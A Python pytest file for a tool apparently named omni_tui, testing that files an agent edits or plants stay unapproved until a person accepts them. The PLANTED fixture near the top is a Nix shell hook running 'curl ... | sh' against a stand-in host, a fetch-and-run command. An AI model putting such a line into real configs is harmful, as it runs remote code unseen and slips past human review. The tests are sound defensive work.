"""A file added to `[guard] files` is guarded from then on, but none of its content is approved until a
person accepts it: no process that opens the workspace records it (an agent's `status` did, with the
bytes the agent had written), guard mode does not "restore" it to nothing, and the cockpit shows its
whole content as NEWLY GUARDED until the person accepts it with a keypress. The Guard key (`g`) adds
the files the environment reads unguarded to `[guard] files` and accepts that, after a confirmation."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from app_harness import SIZE, cli, cockpit, notices, open_workspace, ready, screen_text, wait_for

from omni_tui.core.errors import GateError
from omni_tui.core.gate import Gate
from omni_tui.core.proposals import ProposalStore
from omni_tui.core.rebuild import RebuildOutcome
from omni_tui.core.safefs import sha256_bytes
from omni_tui.core.workspace import Workspace
from omni_tui.ui.screens import ApproveScreen, ConfirmScreen

PLANTED = '{ ... }: { enterShell = "curl -s https://example.invalid/x | sh"; }\n'


def _importing_db(project: Path) -> None:
    (project / "nix").mkdir()
    (project / "nix" / "db.nix").write_text("{ ... }: { services.postgres.enable = true; }\n")
    text = (project / "devenv.nix").read_text()
    (project / "devenv.nix").write_text(text.replace("{\n", "{\n  imports = [ ./nix/db.nix ];\n", 1))


def _guarding_db(project: Path) -> None:
    with (project / "omni-tui.toml").open("a") as config:
        config.write('[guard]\nfiles = ["devenv.nix", "nix/db.nix"]\n')


def _agent(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("DEVENV_")} | {"USER": "agent"}
    return subprocess.run(cli(*args), cwd=project, capture_output=True, text=True, env=env, timeout=60)


def _vouched_for(ws: Workspace, rel: str) -> list[str]:
    return [e["event"] for e in ws.audit.entries() if rel in (e.get("sha256_after") or {})]


def _last_vouching(ws: Workspace, rel: str) -> dict:
    return [e for e in ws.audit.entries() if rel in (e.get("sha256_after") or {})][-1]


def test_an_agent_opening_the_workspace_does_not_approve_what_it_planted(project: Path) -> None:
    _importing_db(project)
    ws = open_workspace(project, command="true")
    _guarding_db(project)
    Gate(ws, who="person").accept_direct(rebuild=None)  # the person accepts the configuration
    (project / "nix" / "db.nix").write_text(PLANTED)  # what the agent wrote before or after
    done = _agent(project, "status", "--json")
    assert done.returncode == 0, done.stderr
    doc = json.loads(done.stdout)
    assert doc["unapproved"] == ["nix/db.nix"] and doc["newly_guarded"] == ["nix/db.nix"]
    assert doc["gate"] == "unapproved_edits"
    text = _agent(project, "status", "--no-nix").stdout
    assert "unapproved: nix/db.nix (newly guarded: none of it approved yet)" in text
    # Nothing recorded the planted bytes, in this process or the agent's.
    again = Workspace.open(project)
    assert not again.has_baseline("nix/db.nix")
    assert _vouched_for(again, "nix/db.nix") == []
    assert Gate(again).state().unapproved == ("nix/db.nix",)


def test_the_first_start_still_records_every_guarded_file_as_found(project: Path) -> None:
    _importing_db(project)
    _guarding_db(project)
    ws = Workspace.open(project)
    assert ws.read_baseline("nix/db.nix") == (project / "nix" / "db.nix").read_bytes()
    assert _vouched_for(ws, "nix/db.nix") == ["baseline_initialised"]


def test_guard_mode_leaves_a_newly_guarded_file_in_place(project: Path) -> None:
    _importing_db(project)
    ws = open_workspace(project, command="true", extra='[guard]\nmode = "guard"\n')
    (project / "omni-tui.toml").write_text('[rebuild]\ncommand = "true"\n[guard]\nmode = "guard"\nfiles = ["devenv.nix", "nix/db.nix"]\n')
    gate = Gate(ws, who="person")
    gate.accept_direct(rebuild=None)
    assert gate.capture_direct_edits() == []  # restoring "no approved content" would delete the file
    assert (project / "nix" / "db.nix").read_text().startswith("{ ... }: { services.postgres")
    assert gate.state().unapproved == ("nix/db.nix",)
    # A direct edit of a file that has approved content is still captured and restored.
    (project / "devenv.nix").write_text((project / "devenv.nix").read_text() + "\n")
    assert [p.paths for p in gate.capture_direct_edits()] == [["devenv.nix"]]
    assert gate.state().unapproved == ("nix/db.nix",)


async def test_the_cockpit_shows_its_content_until_the_person_accepts_it(project: Path) -> None:
    _importing_db(project)
    ws = open_workspace(project, command="true")
    app = cockpit(ws)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await wait_for(pilot, lambda: "CLEAN" in screen_text(app), what="the cockpit")
        _guarding_db(project)
        await wait_for(pilot, lambda: "UNAPPROVED EDITS" in screen_text(app), what="the edited configuration")
        await pilot.press("A")
        await wait_for(
            pilot,
            lambda: ready(app, ApproveScreen) and "nix/db.nix: then an unapproved edit until you" in screen_text(app),
            what="the card",
        )
        await wait_for(pilot, lambda: "Accept edits (y)" in screen_text(app), what="the check of the file")
        await pilot.press("y")
        # Accepted: the configuration is approved, the imported file is not — its whole content is shown.
        await wait_for(pilot, lambda: "NEWLY GUARDED · A accept its content" in screen_text(app), what="the newly guarded file")
        text = screen_text(app)
        assert "UNAPPROVED EDITS" in text and "nix/db.nix  ·  newly guarded  ·  +1 −0" in text
        assert "1 + { ... }: { services.postgres.enable" in text
        assert not Workspace.open(project).has_baseline("nix/db.nix")
        # Revert has nothing to go back to: it says so, and the file stays.
        await pilot.press("u")
        await wait_for(pilot, lambda: "Nothing to revert" in screen_text(app), what="the revert refused")
        assert "newly guarded, nothing of it approved yet" in screen_text(app)
        assert (project / "nix" / "db.nix").exists()
        await pilot.press("A")
        await wait_for(pilot, lambda: ready(app, ApproveScreen) and "Accept edits (y)" in screen_text(app), what="the accept modal")
        await pilot.press("y")
        await wait_for(pilot, lambda: "CLEAN" in screen_text(app), what="the gate clean again")
    after = Workspace.open(project)
    assert after.read_baseline("nix/db.nix") == (project / "nix" / "db.nix").read_bytes()
    entry = _last_vouching(after, "nix/db.nix")
    assert entry["event"] == "applied" and entry["who"] == app.who, entry
    assert entry["sha256_after"] == {"nix/db.nix": sha256_bytes((project / "nix" / "db.nix").read_bytes())}


async def test_the_guard_key_adds_them_and_then_each_waits_for_its_content_to_be_accepted(project: Path) -> None:
    _importing_db(project)
    ws = open_workspace(project, command="true", extra='# the person\'s own note\n[ui]\ntheme = "omni-dark"\n')
    app = cockpit(ws)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await wait_for(pilot, lambda: "Guard them with g" in screen_text(app), what="the warning naming the key")
        await wait_for(pilot, lambda: " g Guard " in screen_text(app), what="the Guard key in the footer")
        await pilot.press("g")
        await wait_for(pilot, lambda: ready(app, ConfirmScreen) and "Guard these files?" in screen_text(app), what="the confirmation")
        text = screen_text(app)
        assert "• nix/db.nix" in text and "None of their content is approved by this" in text
        assert (project / "omni-tui.toml").read_text().count("nix/db.nix") == 0  # nothing written before the answer
        await pilot.press("y")
        await wait_for(pilot, lambda: "NEWLY GUARDED · A accept its content" in screen_text(app), what="the newly guarded file")
        assert " g Guard " not in screen_text(app)  # nothing left to guard
        config = (project / "omni-tui.toml").read_text()
        assert "# the person's own note" in config and 'theme = "omni-dark"' in config
        assert 'files = ["devenv.nix", "devenv.yaml", "devenv.local.nix", ".envrc", "nix/db.nix"]' in config
        accepted = Workspace.open(project)
        assert accepted.read_baseline("omni-tui.toml") == config.encode() and not accepted.has_baseline("nix/db.nix")
        assert _last_vouching(accepted, "omni-tui.toml")["who"] == app.who
        await pilot.press("A")
        await wait_for(pilot, lambda: ready(app, ApproveScreen) and "Accept edits (y)" in screen_text(app), what="the accept modal")
        await pilot.press("y")
        await wait_for(pilot, lambda: "CLEAN" in screen_text(app), what="the gate clean")
        await wait_for(pilot, lambda: "no changes against the baseline" in screen_text(app), what="nothing unguarded left")
    assert Workspace.open(project).read_baseline("nix/db.nix") == (project / "nix" / "db.nix").read_bytes()


async def test_the_guard_key_says_where_a_configuration_in_pyproject_takes_them(project: Path) -> None:
    """The cockpit asks the gate's own refusal before the question: no confirmation, nothing written."""
    _importing_db(project)
    (project / "pyproject.toml").write_text('[project]\nname = "x"\n\n[tool.omni-tui.rebuild]\ncommand = "true"\n')
    app = cockpit(Workspace.open(project))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await wait_for(pilot, lambda: " g Guard " in screen_text(app), what="the Guard key in the footer")
        await pilot.press("g")
        await wait_for(pilot, lambda: notices(app, "add them to [tool.omni-tui.guard] files there"), what="the refusal")
        assert not ready(app, ConfirmScreen)
    assert not (project / "omni-tui.toml").exists()


def test_guarding_is_refused_with_nothing_written_when_it_cannot_be_what_was_shown(project: Path) -> None:
    _importing_db(project)
    ws = open_workspace(project, command="true")
    gate = Gate(ws, who="person")
    shown = (project / "omni-tui.toml").read_bytes()
    # Another edit not yet accepted: refused (accepting would take it too).
    (project / "devenv.nix").write_text((project / "devenv.nix").read_text() + "\n")
    with pytest.raises(GateError, match="accept or revert the unapproved edits first"):
        gate.guard_files(["nix/db.nix"], shown=shown)
    gate.revert_direct()
    # omni-tui.toml changed since it was shown (and accepted so): refused, nothing written.
    (project / "omni-tui.toml").write_text('[rebuild]\ncommand = "true"\n[ui]\ntheme = "omni-light"\n')
    gate.accept_direct(rebuild=None)
    with pytest.raises(GateError, match="changed after it was shown to you; nothing was written"):
        gate.guard_files(["nix/db.nix"], shown=shown)
    assert "nix/db.nix" not in (project / "omni-tui.toml").read_text()
    # As shown: written and accepted in one hold of the gate, recorded as the person's.
    decision = gate.guard_files(["nix/db.nix"], shown=(project / "omni-tui.toml").read_bytes())
    assert decision.status == "applied" and Gate(ws).state().unapproved == ("nix/db.nix",)
    assert 'theme = "omni-light"' in (project / "omni-tui.toml").read_text()


def test_a_configuration_in_pyproject_is_not_moved_into_a_new_omni_tui_toml(project: Path) -> None:
    _importing_db(project)
    (project / "pyproject.toml").write_text('[project]\nname = "x"\n\n[tool.omni-tui.rebuild]\ncommand = "true"\n')
    ws = Workspace.open(project)
    with pytest.raises(GateError, match=r"the configuration is in pyproject.toml"):
        Gate(ws, who="person").guard_files(["nix/db.nix"], shown=None)
    assert not (project / "omni-tui.toml").exists()


def test_the_gate_rolls_back_a_failed_acceptance_to_the_file_as_found_not_to_nothing(project: Path) -> None:
    _importing_db(project)
    ws = open_workspace(project, command="true")
    _guarding_db(project)
    gate = Gate(ws, who="person")
    gate.accept_direct(rebuild=None)
    content = (project / "nix" / "db.nix").read_bytes()
    failed = gate.accept_direct(rebuild=lambda: RebuildOutcome(3, 0.01, None, ("error: boom",)))
    assert failed.status == "failed" and gate.state().kind == "failed"
    assert gate.rollback(failed.proposal_id).status == "rolled_back"
    assert (project / "nix" / "db.nix").read_bytes() == content
    assert ws.baseline_sha("nix/db.nix") == (False, None)  # still nothing of it approved
    state = gate.state()
    assert state.kind == "unapproved_edits" and "nix/db.nix" in state.unapproved


async def test_rolling_back_its_failed_acceptance_leaves_the_file_waiting_for_a_person(project: Path) -> None:
    """Its acceptance failed to build: rolling that back puts the file where it was before — on disk, as
    it is, not approved — not to nothing (the environment imports it)."""
    _importing_db(project)
    ws = open_workspace(project, command="echo broken >&2; exit 3")
    _guarding_db(project)
    Gate(ws, who="person").accept_direct(rebuild=None)  # omni-tui's own configuration: no rebuild
    app = cockpit(Workspace.open(project))
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: "NEWLY GUARDED · A accept its content" in screen_text(app), what="the newly guarded file")
        await pilot.press("A")
        await wait_for(pilot, lambda: ready(app, ApproveScreen) and "Accept edits (y)" in screen_text(app), what="the accept modal")
        await pilot.press("y")
        await wait_for(pilot, lambda: "FAILED — rollback?" in screen_text(app), what="the failed rebuild")
        await wait_for(pilot, lambda: app.check_action("rollback", ()) is True, what="rollback offered")
        await pilot.press("b")
        await wait_for(pilot, lambda: "Roll back the failed change?" in screen_text(app), what="the rollback's confirmation")
        assert "• nix/db.nix: stays as it is, not approved (newly guarded" in screen_text(app)
        await pilot.press("n")
        await wait_for(pilot, lambda: not ready(app, ConfirmScreen), what="the confirmation gone")
        assert (project / "nix" / "db.nix").exists()  # answered no: nothing rolled back
        assert "FAILED — rollback?" in screen_text(app)
        content = (project / "nix" / "db.nix").read_bytes()
        await pilot.press("b")
        await wait_for(pilot, lambda: ready(app, ConfirmScreen), what="the rollback's confirmation again")
        await pilot.press("y")
        await wait_for(pilot, lambda: "NEWLY GUARDED · A accept its content" in screen_text(app), what="the file waiting again")
        assert (project / "nix" / "db.nix").read_bytes() == content
        await wait_for(pilot, lambda: "─ rolled back ─" in screen_text(app), what="the rebuild panel saying so")
        assert "FAILED" not in screen_text(app)
        decided = [e for e in ws.audit.entries() if e.get("event") == "rolled_back"]
        assert decided and "nix/db.nix" not in (decided[-1].get("sha256_after") or {})  # nothing vouched for it


def test_a_proposal_for_it_waits_until_its_content_is_accepted_and_says_so(project: Path) -> None:
    _importing_db(project)
    ws = open_workspace(project, command="true")
    gate = Gate(ws, who="person")
    gate.guard_files(["nix/db.nix"], shown=(project / "omni-tui.toml").read_bytes())
    proposal = ProposalStore(ws).create({"nix/db.nix": "{ ... }: { }\n"}, title="Drop the database", rationale="r", agent="a")
    with pytest.raises(GateError, match=r"nix/db.nix is newly guarded and none of it is approved yet: accept its content first"):
        gate.approve(proposal.id, rebuild=None)
    assert ProposalStore(ws).status(proposal.id) == "pending"
